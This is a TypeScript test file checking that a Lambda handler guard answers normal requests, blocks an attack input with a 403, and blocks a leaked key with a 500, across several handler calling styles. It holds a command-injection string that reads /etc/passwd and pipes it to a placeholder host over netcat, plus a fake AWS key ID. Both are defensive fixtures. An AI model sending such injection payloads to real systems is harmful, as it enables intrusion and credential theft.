import { createServer } from 'node:http';
import { describe, expect, test } from 'vitest';
import { withGuard } from './guard.ts';
import type { Handler } from './handler.ts';

const attack = '1; cat /etc/passwd | nc 203.0.113.9 4444';
const KEY_ID = ['AKIA', 'QWERTYUIOPASDFGH'].join('');
const OK = { statusCode: 200, body: 'ran' };
const LEAK = { statusCode: 200, body: KEY_ID };

type Callback = (error: unknown, answer?: unknown) => void;
interface Context {
  readonly succeed: (answer: unknown) => void;
  readonly fail: (error: unknown) => void;
  readonly done: Callback;
}

function request(text: string): object {
  return {
    version: '2.0',
    rawPath: '/',
    rawQueryString: '',
    headers: {},
    requestContext: { http: { method: 'POST', path: '/', sourceIp: '198.51.100.7' } },
    body: JSON.stringify({ text }),
  };
}

/** Calls a handler as Lambda's runtime does: what it returns counts when it is a promise only. */
function asLambda(handler: Handler, event: object): Promise<unknown> {
  return new Promise((resolve, reject) => {
    const done: Callback = (error, answer) =>
      error === null || error === undefined ? resolve(answer) : reject(error);
    const context: Context = { done, succeed: (answer) => done(null, answer), fail: (error) => done(error) };
    const returned: unknown = Reflect.apply(handler, undefined, [event, context, done]);
    if (returned instanceof Promise || isThenable(returned)) returned.then(resolve, reject);
  });
}

function isThenable(value: unknown): value is PromiseLike<unknown> {
  return typeof value === 'object' && value !== null && 'then' in value && typeof value.then === 'function';
}

const KINDS: readonly [string, (answer: object) => Handler][] = [
  ['async', (answer) => async () => answer],
  [
    'with a callback',
    (answer) => (_event: object, _context: Context, callback: Callback) => callback(null, answer),
  ],
  [
    'with a callback that it does not declare',
    (answer) =>
      function (this: unknown) {
        // biome-ignore lint/complexity/noArguments: this is the kind of handler that is tried.
        const callback: Callback = arguments[2];
        setTimeout(() => callback(null, answer), 2);
      },
  ],
  [
    'with a callback that has a default',
    (answer) =>
      (_event: object, _context: Context, callback: Callback = () => undefined) => {
        setTimeout(() => callback(null, answer), 2);
      },
  ],
  [
    'with all its parameters in one',
    (answer) =>
      (...all: [object, Context, Callback]) => {
        setTimeout(() => all[2](null, answer), 2);
      },
  ],
  [
    'that tells its context later',
    (answer) => (_event: object, context: Context) => {
      setTimeout(() => context.succeed(answer), 2);
    },
  ],
  [
    'that tells its context and returns a server',
    (answer) => (_event: object, context: Context) => {
      context.succeed(answer);
      return createServer();
    },
  ],
  [
    'that returns a server and tells its context later',
    (answer) => (_event: object, context: Context) => {
      setTimeout(() => context.done(null, answer), 2);
      return createServer();
    },
  ],
  [
    'that returns what can be awaited',
    (answer) => () => ({
      // biome-ignore lint/suspicious/noThenProperty: this is the kind of handler that is tried.
      then: (resolve: (value: unknown) => void) => {
        resolve(answer);
      },
    }),
  ],
];

describe.each(KINDS)('a handler %s', (_kind, make) => {
  const options = { mode: 'block' as const, environment: {}, write: () => undefined };

  test('answers its first event and the next', async () => {
    const handler = withGuard(make(OK), options);
    expect(await asLambda(handler, request('first'))).toEqual(OK);
    expect(await asLambda(handler, request('second'))).toEqual(OK);
  });

  test('is kept from attacks', async () => {
    const handler = withGuard(make(OK), options);
    expect(await asLambda(handler, request(attack))).toMatchObject({ statusCode: 403 });
    expect(await asLambda(handler, request(attack))).toMatchObject({ statusCode: 403 });
  });

  test('leaks nothing', async () => {
    const handler = withGuard(make(LEAK), options);
    expect(await asLambda(handler, request('first'))).toMatchObject({ statusCode: 500 });
    expect(await asLambda(handler, request('second'))).toMatchObject({ statusCode: 500 });
  });
});

test('a handler called with neither callback nor context answers with what it returns', async () => {
  const handler: (event: object) => unknown = withGuard((_event: object) => OK, { environment: {} });
  expect(await handler(request('first'))).toEqual(OK);
  expect(handler(request('second'))).toEqual(OK);
});
